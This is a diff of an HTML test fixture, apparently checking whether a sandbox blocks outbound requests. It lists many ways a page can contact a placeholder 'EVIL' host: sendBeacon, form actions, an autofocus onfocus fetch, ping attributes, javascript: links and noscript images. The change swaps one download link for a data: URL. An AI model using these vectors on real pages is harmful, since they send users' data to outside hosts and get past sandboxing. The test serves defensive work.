@@ -42,7 +42,7 @@ navigator.sendBeacon("EVIL/beacon"); alert("ran");
 <button id="send">Send</button><button id="elsewhere" formaction="EVIL/formaction">Send</button></form>
 <form action="EVIL/other"><input autofocus onfocus="fetch('EVIL/focus', {mode: 'no-cors'})"></form>
 <p><a id="blank" target="_blank" href="EVIL/blank">blank</a> <a id="named" target="other" href="EVIL/named">named</a>
-<a id="ping" ping="EVIL/ping" href="#there">ping</a> <a id="download" download href="EVIL/download">download</a>
+<a id="ping" ping="EVIL/ping" href="#there">ping</a> <a id="download" download href="data:text/plain,x">download</a>
 <a id="javascript" href="javascript:fetch('EVIL/javascript')">javascript</a> <a id="leave" href="EVIL/leave">leave</a>
 <a id="top" target="_top" href="javascript:void fetch('EVIL/top')">top</a></p>
 <noscript><img src="EVIL/noscript"></noscript>
